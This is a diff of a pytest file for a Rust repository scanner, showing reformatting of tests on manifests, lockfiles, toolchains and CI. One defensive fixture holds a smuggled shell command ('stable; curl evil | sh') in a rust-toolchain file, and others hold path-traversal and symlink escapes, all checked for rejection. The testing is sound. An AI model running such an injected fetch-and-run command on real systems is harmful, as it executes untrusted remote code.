@@ -23,8 +23,10 @@ def test_not_a_rust_repository(tmp_path):
 
 
 def test_single_crate_edition_msrv_features_and_sys_dependency(tmp_path):
-    write(tmp_path, {
-        "Cargo.toml": """
+    write(
+        tmp_path,
+        {
+            "Cargo.toml": """
 [package]
 name = "demo"
 version = "0.1.0"
@@ -43,19 +45,19 @@ serde = "1"
 [build-dependencies]
 pkg-config = "0.3"
 """,
-        "build.rs": "fn main() {}\n",
-        "src/lib.rs": "",
-    })
+            "build.rs": "fn main() {}\n",
+            "src/lib.rs": "",
+        },
+    )
     ev = scan_repository(tmp_path)
     assert ev.found and len(ev.crates) == 1
     crate = ev.crates[0]
     assert (crate.name, crate.edition, crate.rust_version) == ("demo", "2021", "1.70")
     assert crate.build_script == "build.rs"
-    assert crate.dependencies == {"openssl-sys": "normal", "pq-sys": "normal", "serde": "normal",
-                                  "pkg-config": "build"}
+    assert crate.dependencies == {"openssl-sys": "normal", "pq-sys": "normal", "serde": "normal", "pkg-config": "build"}
     assert ev.msrv()[0] == "1.70"
     assert ev.editions() == ["2021"]
-    assert ev.packages() == ["libssl-dev", "pkg-config"]          # pq-sys is optional and off by default
+    assert ev.packages() == ["libssl-dev", "pkg-config"]  # pq-sys is optional and off by default
     assert [n for n, _ in ev.feature_gated] == ["pq-sys"]
     assert all(p.certain for p in ev.system_packages)
     assert ev.feature_needs() == {"demo/postgres": ["libpq-dev"]}
@@ -63,8 +65,10 @@ pkg-config = "0.3"
 
 
 def test_workspace_globs_exclude_inheritance_and_path_dependencies(tmp_path):
-    write(tmp_path, {
-        "Cargo.toml": """
+    write(
+        tmp_path,
+        {
+            "Cargo.toml": """
 [workspace]
 members = ["crates/*", "tools/cli"]
 exclude = ["crates/skipme"]
@@ -77,16 +81,17 @@ rust-version = "1.85"
 [workspace.dependencies]
 shared = { path = "libs/shared" }
 """,
-        "crates/a/Cargo.toml": '[package]\nname="a"\nversion="0.1.0"\nedition.workspace = true\n'
-                               'rust-version.workspace = true\n[dependencies]\nshared = { workspace = true }\n',
-        "crates/b/Cargo.toml": '[package]\nname="b"\nversion="0.1.0"\nedition="2021"\n'
-                               '[dev-dependencies]\na = { path = "../a" }\n',
-        "crates/skipme/Cargo.toml": '[package]\nname="skipme"\nversion="0.1.0"\n',
-        "crates/notacrate/README.md": "no manifest here\n",
-        "tools/cli/Cargo.toml": '[package]\nname="cli"\nversion="0.1.0"\nedition="2021"\n[[bin]]\nname="cli"\npath="main.rs"\n',
-        "libs/shared/Cargo.toml": '[package]\nname="shared"\nversion="0.1.0"\nedition="2018"\n',
-        "target/debug/build/x/Cargo.toml": '[package]\nname="junk"\n',
-    })
+            "crates/a/Cargo.toml": '[package]\nname="a"\nversion="0.1.0"\nedition.workspace = true\n'
+            "rust-version.workspace = true\n[dependencies]\nshared = { workspace = true }\n",
+            "crates/b/Cargo.toml": '[package]\nname="b"\nversion="0.1.0"\nedition="2021"\n'
+            '[dev-dependencies]\na = { path = "../a" }\n',
+            "crates/skipme/Cargo.toml": '[package]\nname="skipme"\nversion="0.1.0"\n',
+            "crates/notacrate/README.md": "no manifest here\n",
+            "tools/cli/Cargo.toml": '[package]\nname="cli"\nversion="0.1.0"\nedition="2021"\n[[bin]]\nname="cli"\npath="main.rs"\n',
+            "libs/shared/Cargo.toml": '[package]\nname="shared"\nversion="0.1.0"\nedition="2018"\n',
+            "target/debug/build/x/Cargo.toml": '[package]\nname="junk"\n',
+        },
+    )
     ev = scan_repository(tmp_path)
     assert ev.workspace_members == ["crates/a", "crates/b", "tools/cli"]
     assert [c.folder for c in ev.crates] == ["", "crates/a", "crates/b", "tools/cli", "libs/shared"]
@@ -100,9 +105,11 @@ shared = { path = "libs/shared" }
 
 
 def test_lock_sys_crates_are_mapped_and_foreign_ones_ignored(tmp_path):
-    write(tmp_path, {
-        "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\nedition="2021"\n[dependencies]\nreqwest="0.12"\n',
-        "Cargo.lock": """
+    write(
+        tmp_path,
+        {
+            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\nedition="2021"\n[dependencies]\nreqwest="0.12"\n',
+            "Cargo.lock": """
 version = 4
 
 [[package]]
@@ -129,26 +136,35 @@ version = "1.0.0"
 name = "prost-build"
 version = "0.13.0"
 """,
-    })
+        },
+    )
     ev = scan_repository(tmp_path)
     assert ev.lockfile == "Cargo.lock" and ev.lock_version == 4
     assert ev.lock_packages["openssl-sys"] == ["0.9.103"]
     assert ev.packages() == ["libssl-dev", "pkg-config", "protobuf-compiler"]
-    assert not any(p.certain for p in ev.system_packages)    # only the lock names them
+    assert not any(p.certain for p in ev.system_packages)  # only the lock names them
     assert [n for n, _ in ev.unknown_sys] == ["mystery-sys"]
 
 
 def test_bundled_protoc_drops_protobuf_compiler(tmp_path):
-    write(tmp_path, {
-        "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n[build-dependencies]\ntonic-build="0.12"\n'
-                      'protoc-bin-vendored="3"\n',
-    })
+    write(
+        tmp_path,
+        {
+            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n[build-dependencies]\ntonic-build="0.12"\n'
+            'protoc-bin-vendored="3"\n',
+        },
+    )
     assert "protobuf-compiler" not in scan_repository(tmp_path).packages()
 
 
 def test_toolchain_files(tmp_path):
-    write(tmp_path, {"Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n',
-                     "rust-toolchain.toml": '[toolchain]\nchannel = "1.79.0"\ncomponents = ["clippy"]\n'})
+    write(
+        tmp_path,
+        {
+            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n',
+            "rust-toolchain.toml": '[toolchain]\nchannel = "1.79.0"\ncomponents = ["clippy"]\n',
+        },
+    )
     ev = scan_repository(tmp_path)
     assert ev.toolchain.channel == "1.79.0" and ev.toolchain.components == ["clippy"]
     assert ev.toolchain.source.file == "rust-toolchain.toml" and ev.toolchain.source.line == 2
@@ -158,17 +174,20 @@ def test_toolchain_files(tmp_path):
     assert scan_repository(legacy).toolchain.channel == "nightly-2024-05-01"
 
     hostile = tmp_path / "hostile"
-    write(hostile, {"Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n',
-                    "rust-toolchain": "stable; curl evil | sh\n"})
+    write(
+        hostile, {"Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n', "rust-toolchain": "stable; curl evil | sh\n"}
+    )
     ev = scan_repository(hostile)
     assert ev.toolchain is None
     assert any("not a channel name" in w.message for w in ev.warnings)
 
 
 def test_ci_cargo_commands_nextest_toolchain_and_services(tmp_path):
-    write(tmp_path, {
-        "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n',
-        ".github/workflows/ci.yml": """
+    write(
+        tmp_path,
+        {
+            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n',
+            ".github/workflows/ci.yml": """
 name: ci
 on: [push]
 jobs:
@@ -188,7 +207,8 @@ jobs:
           cargo build --locked --all-features
           RUST_LOG=debug cargo nextest run --workspace && cargo +nightly fmt --check
 """,
-    })
+        },
+    )
     ev = scan_repository(tmp_path)
     argvs = [argv for argv, _ in ev.ci_commands]
     assert ["cargo", "build", "--locked", "--all-features"] in argvs
@@ -203,11 +223,14 @@ def test_malformed_and_hostile_manifests_are_warnings(tmp_path):
     outside = tmp_path / "outside"
     write(outside, {"Cargo.toml": '[package]\nname="SECRET"\n'})
     repo = tmp_path / "repo"
-    write(repo, {
-        "Cargo.toml": '[workspace]\nmembers = ["good", "broken", "../outside", "linked"]\n',
-        "good/Cargo.toml": '[package]\nname="good"\nversion="0.1.0"\n[dependencies]\nescape = { path = "../../outside" }\n',
-        "broken/Cargo.toml": '[package\nname = "broken"\n',
-    })
+    write(
+        repo,
+        {
+            "Cargo.toml": '[workspace]\nmembers = ["good", "broken", "../outside", "linked"]\n',
+            "good/Cargo.toml": '[package]\nname="good"\nversion="0.1.0"\n[dependencies]\nescape = { path = "../../outside" }\n',
+            "broken/Cargo.toml": '[package\nname = "broken"\n',
+        },
+    )
     os.symlink(outside, repo / "linked")
     ev = scan_repository(repo)
     names = [c.name for c in ev.crates]
@@ -217,15 +240,17 @@ def test_malformed_and_hostile_manifests_are_warnings(tmp_path):
 
 def test_oversized_lock_is_refused_not_read(tmp_path):
     write(tmp_path, {"Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n'})
-    (tmp_path / "Cargo.lock").write_text("# pad\n" * 600_000)      # > 2 MB
+    (tmp_path / "Cargo.lock").write_text("# pad\n" * 600_000)  # > 2 MB
     ev = scan_repository(tmp_path)
     assert ev.lockfile is None
     assert any(w.file == "Cargo.lock" and "larger than" in w.message for w in ev.warnings)
 
 
 def test_optional_sys_dependencies_count_only_when_a_default_feature_or_ci_enables_them(tmp_path):
-    write(tmp_path, {
-        "Cargo.toml": """
+    write(
+        tmp_path,
+        {
+            "Cargo.toml": """
 [package]
 name = "x"
 version = "0.1.0"
@@ -241,12 +266,14 @@ openssl-sys = { version = "0.9", optional = true }
 pq-sys = { version = "0.6", optional = true }
 libz-sys = { version = "1", optional = true }
 """,
-    })
+        },
+    )
     ev = scan_repository(tmp_path)
     assert ev.packages() == ["libssl-dev", "pkg-config"]
     assert sorted(n for n, _ in ev.feature_gated) == ["libz-sys", "pq-sys"]
     (tmp_path / ".github/workflows").mkdir(parents=True)
     (tmp_path / ".github/workflows/ci.yml").write_text(
-        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo test --all-features\n")
+        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo test --all-features\n"
+    )
     ev = scan_repository(tmp_path)
     assert {"libssl-dev", "libpq-dev", "zlib1g-dev"} <= set(ev.packages()) and not ev.feature_gated
